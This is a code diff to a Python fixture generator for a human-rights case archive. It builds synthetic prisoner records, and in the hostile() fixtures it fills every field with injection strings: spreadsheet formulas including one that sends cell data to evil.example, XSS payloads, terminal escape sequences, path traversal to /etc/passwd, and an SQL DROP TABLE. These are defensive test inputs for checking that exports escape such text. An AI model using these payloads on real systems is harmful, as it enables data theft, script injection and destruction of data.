@@ -2,10 +2,11 @@
 
 from __future__ import annotations
 
+import calendar
 import hashlib
 import random
 from collections.abc import Iterable, Iterator
-from dataclasses import fields
+from dataclasses import fields, replace
 from pathlib import Path
 
 from archive_spider import records as r
@@ -46,11 +47,13 @@ def entry(number: int, seed: int = 7) -> r.Entry:
     spokesperson = f"{dice.choice(GIVEN.split())} {dice.choice(FAMILY.split()[:3])}"
     place, charge, words = dice.choice(PLACES.split("|")), dice.choice(CHARGES.split("|")), dice.choice(OPENINGS)
     years = dice.choice([1, 2, 3, 4, 7, 10, 15])
-    lead = f"{name}, a lawyer from {place}, was arrested on {day} {_month(month)} {year - 1} and charged with “{charge}”."
+    lead = (
+        f"{name}, a lawyer from {place}, was arrested on {day} {_month(month)} {year - 1} and charged with “{charge}”."
+    )
     court = f"On {day} {_month(month)} {year} a court in {place} sentenced {name} to {years} years in prison."
     speech = f"“{words}” said {spokesperson}, Director of Research at the Lantern Institute."
     filler = " ".join(dice.choice(OPENINGS) for _ in range(dice.randint(2, 12)))
-    text = "\n\n".join([lead, court, speech, filler])
+    text = f"{lead}\n\n{court}\n\n{speech}\n\n{filler}"
     url = f"https://lantern.example/{COUNTRIES[country]}/{number}"
     identifier = r.entry_id(url=url, archive="lantern", date=date, text=text)
     quote_start, quote_end = _span(text, words)
@@ -72,7 +75,16 @@ def entry(number: int, seed: int = 7) -> r.Entry:
         attribution="after",
         confidence=0.95,
     )
-    case = _case(identifier, text, name, place, charge, years, f"{year - 1}-{month:02}-{day:02}", date)
+    case = _case(
+        identifier=identifier,
+        text=text,
+        name=name,
+        place=place,
+        charge=charge,
+        years=years,
+        arrested=f"{year - 1}-{month:02}-{day:02}",
+        sentenced=date,
+    )
     return r.Entry(
         id=identifier,
         archive="lantern",
@@ -101,11 +113,11 @@ def entry(number: int, seed: int = 7) -> r.Entry:
 
 
 def _month(number: int) -> str:
-    return "January February March April May June July August September October November December".split()[number - 1]
+    return calendar.month_name[number]
 
 
 def _case(
-    identifier: str, text: str, name: str, place: str, charge: str, years: int, arrested: str, sentenced: str
+    *, identifier: str, text: str, name: str, place: str, charge: str, years: int, arrested: str, sentenced: str
 ) -> r.Case:
     start, end = _span(text, name)
     arrest = _span(text, "was arrested")
@@ -114,15 +126,17 @@ def _case(
     charge_start, charge_end = _span(text, charge)
     return r.Case(
         id=r.case_id(identifier, name),
-        person=r.Person(
-            id=r.person_id(identifier, name), name=name, occupation="lawyer", age=34, start=start, end=end
-        ),
+        person=r.Person(id=r.person_id(identifier, name), name=name, occupation="lawyer", age=34, start=start, end=end),
         status="imprisoned",
         events=[
             r.Event(type="arrest", date=arrested, place=place, start=arrest[0], end=arrest[1]),
             r.Event(
-                type="sentence", date=sentenced[:7] + "~", place=place, authority="a court",
-                start=sentence_start, end=sentence_end,
+                type="sentence",
+                date=sentenced[:7] + "~",
+                place=place,
+                authority="a court",
+                start=sentence_start,
+                end=sentence_end,
             ),
         ],
         charges=[r.Span(text=charge, start=charge_start, end=charge_end)],
@@ -136,6 +150,7 @@ def _case(
 def history(entries: Iterable[r.Entry]) -> list[r.PersonHistory]:
     """Make one line a name; enough for exports, which only read it."""
     found: dict[str, r.PersonHistory] = {}
+    seen: set[tuple[str, str]] = set()
     for one in sorted(entries, key=lambda one: (one.date, one.id)):
         named = [(case.id, case.person.name, "case", case) for case in one.cases]
         named += [(q.speaker.id, q.speaker.name, "speaker", None) for q in one.quotes if q.speaker]
@@ -146,7 +161,8 @@ def history(entries: Iterable[r.Entry]) -> list[r.PersonHistory]:
             mention = r.Mention(
                 id=identifier, entry_id=one.id, date=one.date, archive=one.archive, kind=kind, name=name
             )
-            if mention not in person.mentions:
+            if (identifier, name) not in seen:
+                seen.add((identifier, name))
                 person.mentions.append(mention)
             if case:
                 person.status, person.status_date, person.status_entry_id = case.status, one.date, one.id
@@ -202,6 +218,136 @@ def publish(output: Path, entries: Iterable[r.Entry], people: list[r.PersonHisto
         (output / path).parent.mkdir(parents=True, exist_ok=True)
         (output / path).write_bytes(content)
     return output
+
+
+def bare(number: int) -> r.Entry:
+    """Make an entry that says as little as a record may: every optional value null, every list empty."""
+    identifier = f"e-{number:016}"
+    return r.Entry(
+        id=identifier,
+        archive="lantern",
+        listings=["aldonia"],
+        date="2020-01-02",
+        date_text="2020",
+        text="No word.",
+        quotes=[r.Quote(id=f"q{identifier}", text="No word", start=0, end=7)],
+        cases=[r.Case(id=f"c{identifier}", person=r.Person(id=f"p{identifier}", name=f"{number:08}", start=0, end=2))],
+        provenance=r.Provenance(source="00000008", digest="00", layout="text", extractor="archive_spider 0.1"),
+    )
+
+
+def adversarial(number: int) -> Iterator[r.Entry]:
+    """Make so many records that a loader which looks at the first ones guesses wrong: the rich ones come last."""
+    for each in range(number):
+        yield bare(each)
+    for each in range(20):
+        rich = entry(each)
+        rich.listings, rich.title, rich.updated = ["aldonia"], f"{each:08}", "2019-02"
+        rich.also_at, rich.documents = ["https://lantern.example/1"], [r.Document(title="00", url="1")]
+        rich.updates = [r.Update(date="2019-03-04", start=0, end=3)]
+        rich.quotes[0].also = [r.Speaker(id="s-00", name="0042", kind="unnamed", start=0, end=1)]
+        rich.quotes[0].confidence = 1.0 if each % 2 else 0.25
+        for case in rich.cases:
+            case.person.aliases, case.person.native_name = ["007"], "安娜"
+            case.faces = r.Faces(text="No", months=None if each % 2 else 3, start=0, end=2)
+            case.events[0].date = "2019"
+        rich.provenance.offset = 2**40
+        yield rich
+
+
+HOSTILE = (
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://evil.example/?"&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠A1",
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '" onmouseover="alert(1)',
+    "' onfocus='alert(1)' autofocus='",
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java\tscript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    'https://evil.example/"><script>alert(1)</script>',
+    "<!--",
+    "]]><svg onload=alert(1)>",
+    "{{ 7 * 7 }}{% raw %}",
+    "\x1b[2J\x1b]0;owned\x07",
+    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
+    "\u202egnp.exe",
+    "../../../../etc/passwd",
+    "..\\..\\windows\\system32",
+    "'; DROP TABLE entries; --",
+    "a | b ¦ c",
+    "line one\u2028line two\u2029",
+    "nul\x00byte",
+)
+"""Words that would act in a spreadsheet, a browser, a terminal, a template, a shell path or a database."""
+
+
+def hostile() -> list[r.Entry]:
+    """Make one entry for each hostile text, which stands in every field that a page can fill."""
+    return [_hostile(number, words) for number, words in enumerate(HOSTILE)]
+
+
+def _hostile(number: int, words: str) -> r.Entry:
+    one = entry(number)
+    end = len(words)
+    speaker = r.Speaker(id=f"s-{number}", name=words, role=words, organization=words, start=0, end=end)
+    quote = r.Quote(id=f"q-{number}", text=words, start=0, end=end, speaker=speaker, also=[speaker], cue=words)
+    person = r.Person(
+        id=f"p-{number}",
+        name=words,
+        native_name=words,
+        aliases=[words],
+        ethnicity=words,
+        nationality=words,
+        occupation=words,
+        start=0,
+        end=end,
+    )
+    span = r.Span(text=words, start=0, end=end)
+    case = r.Case(
+        id=f"c-{number}",
+        person=person,
+        status="detained",
+        events=[r.Event(type="arrest", date=words, place=words, authority=words, start=0, end=end)],
+        charges=[span],
+        sentence=r.Sentence(kind="other", text=words, additional=[words], start=0, end=end),
+        faces=r.Faces(text=words, start=0, end=end),
+        held_at=words,
+        court=words,
+        health=[span],
+        concerns=[span],
+        access=[span],
+    )
+    return replace(
+        one,
+        id=f"e-{number}",
+        listings=["aldonia"],
+        url=words,
+        also_at=[words],
+        title=words,
+        date_text=words,
+        text=f"{words}\n\n{words}",
+        images=[r.Image(caption=words, credit=words, url=words)],
+        documents=[r.Document(title=words, url=words)],
+        references=[words],
+        quotes=[quote],
+        cases=[case],
+        provenance=replace(one.provenance, source=words, warc=words, layout=words),
+    )
 
 
 if __name__ == "__main__":
